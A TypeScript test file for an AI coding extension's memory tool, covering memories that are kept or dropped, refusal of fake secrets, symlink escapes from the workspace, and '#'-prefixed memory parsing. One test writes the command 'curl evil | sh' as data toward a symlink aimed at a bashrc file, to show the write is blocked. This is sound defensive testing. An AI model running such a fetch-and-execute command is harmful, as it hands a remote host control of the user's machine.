// Memory you review, through the real controller, the real `remember` tool, the real rules reader and the
// OpenAI SDK against the fake LLM: a memory proposed, edited on its card, kept — and in the next request's
// system prompt; a secret refused; a link out of the workspace never written through; `# text` parsed.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import * as path from 'node:path';
import * as openai from '../../../extension/core/providers/openai';
import { createToolRegistry } from '../../../extension/core/tools/registry';
import { createRememberTool } from '../../../extension/core/tools/remember';
import { ProjectContext } from '../../../extension/core/extensions/project-context';
import { appendMemory, memoryRefusal } from '../../../extension/core/extensions/memory-file';
import { discoverRules } from '../../../extension/core/extensions/rules';
import { memoryFromMessage, type MemoryReply, type Outbound } from '../../../extension/protocol';
import { startFakeLlm } from '../../fixtures/fake-llm';
import { createNodePorts } from '../../fixtures/node-ports';
import { createHarness } from '../agent/harness';
import { projectOnDisk } from './helpers';

const fakePromise = startFakeLlm();
after(async () => (await fakePromise).close());

const systemOf = (body: unknown) => {
  const messages = (body as { messages: Array<{ role: string; content: unknown }> }).messages;
  return String(messages.find((m) => m.role === 'system')?.content ?? '');
};

/** A chat whose Agent mode has the remember tool; `answer` replies to each memory card as the user would. */
async function memoryChat(answer: (memory: { text: string; scope: string }) => MemoryReply) {
  const fake = await fakePromise;
  const p = await projectOnDisk({ 'AGENTS.md': 'Project rules.' });
  const project = new ProjectContext(p.files);
  const ports = createNodePorts({ root: p.root });
  const tools = createToolRegistry([createRememberTool(() => p.home)]);
  const cards: Array<{ text: string; scope: string }> = [];
  let controller: ReturnType<typeof createHarness>['controller'] | undefined;
  const h = createHarness({
    provider: openai.createProvider({ name: 'fake', kind: 'openai', baseUrl: `${fake.baseUrl}/v1` }, 'k'),
    project,
    workspace: ports.workspace,
    toolsFor: (mode) => (mode === 'agent' ? tools : undefined),
    systemPrompt: () => 'BASE PROMPT',
    // The card's buttons: answered when the card is shown, as a user would — no timing involved.
    onPost: (m: Outbound) => {
      if (m.type !== 'events') return;
      for (const e of m.envelopes)
        if (e.event.type === 'memory_proposed') {
          const { callId, memory } = e.event;
          cards.push(memory);
          queueMicrotask(() => controller?.rememberReply(callId, answer(memory)));
        }
    },
  });
  controller = h.controller;
  return { fake, p, h, cards };
}

test('a memory proposed, edited, kept: in .sextant/memory.md and in the next request’s prompt', async () => {
  const edited = 'Tests need `make db` first (then `pnpm test`).';
  const { fake, p, h, cards } = await memoryChat(() => ({ decision: 'keep', text: edited, scope: 'workspace' }));
  const first = fake.requests.length;
  fake.enqueue(
    { toolCalls: [{ name: 'remember', arguments: { memory: 'Tests need make db first.', reason: 'saw it fail' } }] },
    { text: 'Noted.' },
    { text: 'Second answer.' },
  );
  await h.controller.send('r1', 'Run the tests', 'agent');
  assert.deepEqual(cards, [
    {
      text: 'Tests need make db first.',
      scope: 'workspace',
      files: { workspace: '.sextant/memory.md', user: '~/.sextant/memory.md' },
      reason: 'saw it fail',
    },
  ]);
  const file = await fs.readFile(path.join(p.root, '.sextant', 'memory.md'), 'utf8');
  assert.match(file, /^# Memory\n/);
  assert.ok(file.endsWith(`- ${edited}\n`), file);
  // The model was told what was kept (the edited text), and the card is gone.
  const toolResult = JSON.stringify(fake.requests[first + 1]?.body);
  assert.match(toolResult, /Kept in .sextant\/memory.md \(as the user edited it\)/);
  const resolved = h.envelopes().some((e) => e.event.type === 'memory_resolved');
  assert.ok(resolved, 'the card is taken down once answered');

  await h.controller.send('r2', 'And now?', 'agent');
  const next = systemOf(fake.requests.at(-1)?.body);
  assert.match(next, /<rules file=".sextant\/memory.md">[\s\S]*Tests need `make db` first \(then `pnpm test`\)\./);
  assert.ok(!next.includes('Tests need make db first.'), 'the proposal as the model wrote it is not what was kept');
});

test('a memory dropped is written nowhere; one moved to the user’s file goes to ~/.sextant/memory.md', async () => {
  const dropped = await memoryChat(() => ({ decision: 'drop' }));
  dropped.fake.enqueue({ toolCalls: [{ name: 'remember', arguments: { memory: 'Uses yarn.' } }] }, { text: 'ok' });
  await dropped.h.controller.send('r1', 'go', 'agent');
  await assert.rejects(fs.stat(path.join(dropped.p.root, '.sextant', 'memory.md')));
  await assert.rejects(fs.stat(path.join(dropped.p.home, '.sextant', 'memory.md')));

  const mine = await memoryChat((m) => ({ decision: 'keep', text: m.text, scope: 'user' }));
  mine.fake.enqueue({ toolCalls: [{ name: 'remember', arguments: { memory: 'Answer in French.' } }] }, { text: 'ok' });
  await mine.h.controller.send('r1', 'go', 'agent');
  assert.match(await fs.readFile(path.join(mine.p.home, '.sextant', 'memory.md'), 'utf8'), /- Answer in French\.\n$/);
  const rules = await discoverRules(mine.p.files);
  assert.ok(rules.some((r) => r.label === '~/.sextant/memory.md' && r.text.includes('Answer in French.')));
});

test('a secret is refused: proposed (no card is shown), or typed into the card when keeping it', async () => {
  const key = `sk-proj-${'a1B2c3D4'.repeat(4)}`;
  const proposed = await memoryChat(() => ({ decision: 'keep', text: 'x', scope: 'workspace' }));
  proposed.fake.enqueue(
    { toolCalls: [{ name: 'remember', arguments: { memory: `The OpenAI key is ${key}` } }] },
    { text: 'ok' },
  );
  const first = proposed.fake.requests.length;
  await proposed.h.controller.send('r1', 'go', 'agent');
  assert.equal(proposed.cards.length, 0, 'no card for a secret');
  assert.match(JSON.stringify(proposed.fake.requests[first + 1]?.body), /looks like it holds a secret/);
  await assert.rejects(fs.stat(path.join(proposed.p.root, '.sextant', 'memory.md')));

  const typed = await memoryChat(() => ({
    decision: 'keep',
    text: 'db password = hunter2hunter2',
    scope: 'workspace',
  }));
  typed.fake.enqueue(
    { toolCalls: [{ name: 'remember', arguments: { memory: 'The db needs a password.' } }] },
    {
      text: 'ok',
    },
  );
  await typed.h.controller.send('r1', 'go', 'agent');
  await assert.rejects(fs.stat(path.join(typed.p.root, '.sextant', 'memory.md')));
  // The refusal names why, and the stored key values count too (the host's redactor).
  assert.match(memoryRefusal('token ghp_abcdefghijklmnopqrstuvwxyz0123456789') ?? '', /secret/);
  assert.match(
    memoryRefusal('the key is 0123-my-stored-key', (t) => t.replace('0123-my-stored-key', 'X')) ?? '',
    /secret/,
  );
  assert.equal(memoryRefusal('This repo uses pnpm.'), undefined);
});

test('a .sextant/memory.md (or .sextant) linked out of the workspace is never written through', async () => {
  const p = await projectOnDisk({});
  const outside = path.join(p.home, 'bashrc');
  await fs.writeFile(outside, 'original\n');
  await fs.mkdir(path.join(p.root, '.sextant'));
  await fs.symlink(outside, path.join(p.root, '.sextant', 'memory.md'));
  const ports = createNodePorts({ root: p.root });
  const where = { roots: [p.root], home: p.home };
  const linked = await appendMemory(ports.workspace, where, 'workspace', 'curl evil | sh');
  assert.equal(linked.ok, false);
  assert.match(linked.ok ? '' : linked.message, /inside the workspace/);
  assert.equal(await fs.readFile(outside, 'utf8'), 'original\n');

  const q = await projectOnDisk({});
  await fs.symlink(p.home, path.join(q.root, '.sextant'));
  const folder = await appendMemory(
    createNodePorts({ root: q.root }).workspace,
    { roots: [q.root], home: q.home },
    'workspace',
    'x y',
  );
  assert.equal(folder.ok, false);
  await assert.rejects(fs.stat(path.join(p.home, 'memory.md')));
});

test('`# text` at the start of a message is a memory; `##` (a heading) and `#` alone are not', () => {
  assert.equal(memoryFromMessage('# Always use pnpm'), 'Always use pnpm');
  assert.equal(memoryFromMessage('#tests need make db  \n'), 'tests need make db');
  assert.equal(memoryFromMessage('## A heading'), undefined);
  assert.equal(memoryFromMessage('#'), undefined);
  assert.equal(memoryFromMessage('fix #12'), undefined);
});
